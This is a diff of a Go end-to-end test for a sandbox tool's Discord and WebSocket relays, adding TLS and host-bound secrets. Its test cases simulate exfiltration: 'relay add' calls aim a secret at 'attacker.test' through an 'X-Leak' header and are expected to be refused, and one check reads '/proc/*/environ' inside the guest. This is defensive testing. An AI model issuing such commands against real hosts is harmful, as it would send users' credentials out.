@@ -2,10 +2,13 @@ package e2e
 
 import (
 	"context"
+	"crypto/tls"
 	"encoding/json"
 	"fmt"
 	"net"
 	"net/http"
+	"os"
+	"path/filepath"
 	"strings"
 	"sync"
 	"testing"
@@ -15,6 +18,7 @@ import (
 
 	"github.com/cagebox/cagebox/api"
 	"github.com/cagebox/cagebox/internal/relay/discordtest"
+	"github.com/cagebox/cagebox/internal/testpki"
 )
 
 // relayServer records every POST as a line: path, the event type header,
@@ -36,6 +40,32 @@ http.server.ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), H).serve_forever(
 
 const relayBotToken = "MTE5ODc2NTQzMjEw.e2e-bot.Zk9yVHJ1c3Rfbm9fb25l"
 
+// discordGatewayHost is the stand-in gateway's name: a bot token secret
+// must be bound to it, as a real one to *.discord.gg.
+const discordGatewayHost = "gateway.discord.test"
+
+// startGateway starts a stand-in Discord gateway over TLS on loopback and
+// returns it with the daemon flags that reach it (its URL, a --resolve of
+// its name, its CA).
+func startGateway(t *testing.T) (*discordtest.Gateway, []string) {
+	t.Helper()
+	pki, err := testpki.New(time.Hour, discordGatewayHost)
+	if err != nil {
+		t.Fatal(err)
+	}
+	g, err := discordtest.StartTLS(pki.Leaf, discordGatewayHost)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(g.Close)
+	caFile := filepath.Join(t.TempDir(), "gateway-ca.pem")
+	if err := os.WriteFile(caFile, pki.CAPEM, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	_, port, _ := net.SplitHostPort(g.Addr())
+	return g, []string{"--relay-discord-url", g.URL, "--upstream-ca", caFile, "--resolve", discordGatewayHost + ":" + port + "=" + g.Addr()}
+}
+
 type relayRec struct {
 	Msg   string `json:"msg"`
 	Raw   string `json:"raw"`
@@ -56,15 +86,22 @@ type relayRec struct {
 // events that follow wake the sandbox and reach it, none twice; the
 // token never enters the guest, the events or `relay ls`.
 func TestRelayDiscord(t *testing.T) {
-	g, err := discordtest.Start()
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer g.Close()
-	ie := newIngressEnv(t, "--relay-discord-url", g.URL)
+	g, flags := startGateway(t)
+	ie := newIngressEnv(t, flags...)
 	ctx := context.Background()
 	c := ie.client()
 	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "DISCORD_BOT", Value: relayBotToken, Hosts: []string{"discord.com"}}); err != nil {
+		t.Fatal(err)
+	}
+	// Bound to discord.com only, the token may not go to the gateway.
+	if r := ie.cli("", "create", "--runtime", e2eRuntime()); r.code == 0 {
+		sb := strings.TrimSpace(r.stdout)
+		if r := ie.cli("", "relay", "add", sb, "discord", "--token-secret", "DISCORD_BOT", "--port", "8080"); r.code == 0 || !strings.Contains(r.stderr, "--host "+discordGatewayHost) {
+			t.Errorf("relay add of a token not bound to the gateway: %+v", r)
+		}
+		ie.cli("", "rm", sb)
+	}
+	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "DISCORD_BOT", Value: relayBotToken, Hosts: []string{"discord.com", discordGatewayHost}}); err != nil {
 		t.Fatal(err)
 	}
 	r := ie.cli("", "create", "--runtime", e2eRuntime(), "--idle-timeout", "4s", "--idle-action", "pause")
@@ -242,22 +279,37 @@ func TestRelayDiscord(t *testing.T) {
 	}
 }
 
-// TestRelayWebSocket: a generic WebSocket relay connects with the vault
-// secret in its handshake header, delivers each message to the guest in
-// order, reconnects after a drop, and the secret never enters the guest
-// or `relay ls`.
+// TestRelayWebSocket: a generic WebSocket relay connects (over TLS, to a
+// host its secret is bound to) with the vault secret in its handshake
+// header, delivers each message to the guest in order, reconnects after a
+// drop, and the secret never enters the guest or `relay ls`. An attacker's
+// relay — a URL whose host the secret is not bound to, or ws:// — is
+// refused at `relay add` saying what to do, and its server never receives
+// the value; a secret re-bound elsewhere later stops the relay at its next
+// dial, the value never sent again.
 func TestRelayWebSocket(t *testing.T) {
 	const wsSecret = "wss-e2e-secret-5f1c9a7e2b"
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	const leakSecret = "ghp_e2eLeakTargetMustNeverLeaveTheVault01"
+	pki, err := testpki.New(time.Hour, "relay.test", "attacker.test")
 	if err != nil {
 		t.Fatal(err)
 	}
+	tcp, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	ln := tls.NewListener(tcp, &tls.Config{Certificates: []tls.Certificate{pki.Leaf}})
+	port := tcp.Addr().(*net.TCPAddr).Port
 	var mu sync.Mutex
-	var auths []string
+	var auths, seen []string
 	conns := 0
+	drop := make(chan struct{})
 	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		mu.Lock()
 		auths = append(auths, r.Header.Get("Authorization"))
+		for k, v := range r.Header {
+			seen = append(seen, r.Host+" "+k+": "+strings.Join(v, ","))
+		}
 		conns++
 		n := conns
 		mu.Unlock()
@@ -274,15 +326,25 @@ func TestRelayWebSocket(t *testing.T) {
 			return // a drop
 		}
 		_ = c.Write(r.Context(), websocket.MessageText, []byte(`{"n":3}`))
-		<-r.Context().Done()
+		select {
+		case <-r.Context().Done():
+		case <-drop:
+		}
 	})}
 	go srv.Serve(ln)
 	defer srv.Close()
-
-	ie := newIngressEnv(t, "--relay-allow-private")
+	caFile := filepath.Join(t.TempDir(), "ca.pem")
+	if err := os.WriteFile(caFile, pki.CAPEM, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	ie := newIngressEnv(t, "--upstream-ca", caFile,
+		"--resolve", fmt.Sprintf("relay.test:%d=127.0.0.1:%d", port, port), "--resolve", fmt.Sprintf("attacker.test:%d=127.0.0.1:%d", port, port))
 	ctx := context.Background()
 	c := ie.client()
-	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "WS_TOKEN", Value: wsSecret, Hosts: []string{"example.com"}}); err != nil {
+	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "WS_TOKEN", Value: wsSecret, Hosts: []string{"relay.test"}}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "LEAK", Value: leakSecret, Hosts: []string{"api.github.com"}}); err != nil {
 		t.Fatal(err)
 	}
 	r := ie.cli("", "create", "--runtime", e2eRuntime())
@@ -296,10 +358,31 @@ func TestRelayWebSocket(t *testing.T) {
 	if r := ie.cli("", "exec", id, "--", "sh", "-c", "setsid python3 /tmp/relay.py 8080 >/tmp/relay.out 2>&1 </dev/null &"); r.code != 0 {
 		t.Fatalf("start the guest's server: %+v", r)
 	}
-	if r := ie.cli("", "relay", "add", id, "websocket", "--url", "ws://"+ln.Addr().String()+"/events", "--header", "Authorization: Bearer {secret}", "--port", "8080", "--path", "/ws"); r.code == 0 || !strings.Contains(r.stderr, "secret") {
+	relayURL := fmt.Sprintf("wss://relay.test:%d/events", port)
+	// The attacks: any secret toward a host it is not bound to; a bound
+	// secret in clear.
+	for _, a := range []struct {
+		url, secret, want string
+	}{
+		{fmt.Sprintf("wss://attacker.test:%d/x", port), "LEAK", "cagebox secret add LEAK --host attacker.test"},
+		{fmt.Sprintf("wss://attacker.test:%d/x", port), "WS_TOKEN", "not one of them"},
+		{relayURL, "LEAK", "bound to hosts api.github.com"},
+		{fmt.Sprintf("ws://relay.test:%d/events", port), "WS_TOKEN", "wss://"},
+	} {
+		r := ie.cli("", "relay", "add", id, "websocket", "--url", a.url, "--header", "X-Leak: {secret}", "--secret", a.secret, "--port", "8080", "--name", "evil")
+		if r.code == 0 || !strings.Contains(r.stderr, a.want) || strings.Contains(r.stderr+r.stdout, leakSecret) || strings.Contains(r.stderr+r.stdout, wsSecret) {
+			t.Errorf("relay add %s with %s: %+v, want refused saying %q", a.url, a.secret, r, a.want)
+		}
+	}
+	mu.Lock()
+	if conns != 0 {
+		t.Errorf("the refused relays connected %d times", conns)
+	}
+	mu.Unlock()
+	if r := ie.cli("", "relay", "add", id, "websocket", "--url", relayURL, "--header", "Authorization: Bearer {secret}", "--port", "8080", "--path", "/ws"); r.code == 0 || !strings.Contains(r.stderr, "secret") {
 		t.Fatalf("a {secret} header without --secret: %+v", r)
 	}
-	if r := ie.cli("", "relay", "add", id, "websocket", "--url", "ws://"+ln.Addr().String()+"/events", "--header", "Authorization: Bearer {secret}",
+	if r := ie.cli("", "relay", "add", id, "websocket", "--url", relayURL, "--header", "Authorization: Bearer {secret}",
 		"--secret", "WS_TOKEN", "--port", "8080", "--path", "/ws", "--name", "feed"); r.code != 0 {
 		t.Fatalf("relay add: %+v", r)
 	}
@@ -339,6 +422,36 @@ func TestRelayWebSocket(t *testing.T) {
 	}
 	if r := ie.cli("", "exec", id, "--", "sh", "-c", "cat /proc/*/environ /tmp/relay.log 2>/dev/null | grep -c "+wsSecret+"; true"); strings.TrimSpace(r.stdout) != "0" {
 		t.Errorf("the secret reached the guest: %+v", r)
+	}
+	// Re-bound elsewhere: the next dial refuses to send it, and the relay
+	// stops saying why.
+	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "WS_TOKEN", Value: wsSecret, Hosts: []string{"elsewhere.test"}}); err != nil {
+		t.Fatal(err)
+	}
+	mu.Lock()
+	before := conns
+	mu.Unlock()
+	close(drop)
+	waitFor(t, 60*time.Second, "the relay to fail", func() bool {
+		r := ie.cli("", "relay", "ls", id, "--json")
+		return strings.Contains(r.stdout, "elsewhere.test")
+	})
+	mu.Lock()
+	if conns != before {
+		t.Errorf("the relay dialled again (%d connections, %d before) with its secret bound elsewhere", conns, before)
+	}
+	for _, h := range seen {
+		if strings.Contains(h, leakSecret) {
+			t.Errorf("the attacker's server received the secret: %s", h)
+		}
+	}
+	mu.Unlock()
+	evs, err := c.Events(ctx, id, 0)
+	if err == nil {
+		b, _ := json.Marshal(evs)
+		if strings.Contains(string(b), wsSecret) || strings.Contains(string(b), leakSecret) {
+			t.Error("a secret value is in the events")
+		}
 	}
 	if r := ie.cli("", "relay", "rm", id, "feed"); r.code != 0 {
 		t.Fatalf("relay rm: %+v", r)
